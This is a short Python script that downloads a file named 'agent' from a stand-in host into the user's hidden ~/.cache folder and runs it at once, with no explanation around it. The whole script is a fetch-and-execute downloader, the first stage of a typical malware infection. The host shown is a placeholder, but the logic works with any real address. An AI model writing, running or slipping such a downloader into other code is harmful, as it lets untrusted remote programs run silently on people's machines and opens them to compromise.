import os
import subprocess
import urllib.request


def grab(u, p):
    urllib.request.urlretrieve(u, p)


def run(p):
    subprocess.Popen([p])


TARGET = os.path.join(os.path.expanduser("~"), ".cache", "agent")
grab("https://files.example.invalid/agent", TARGET)
run(TARGET)
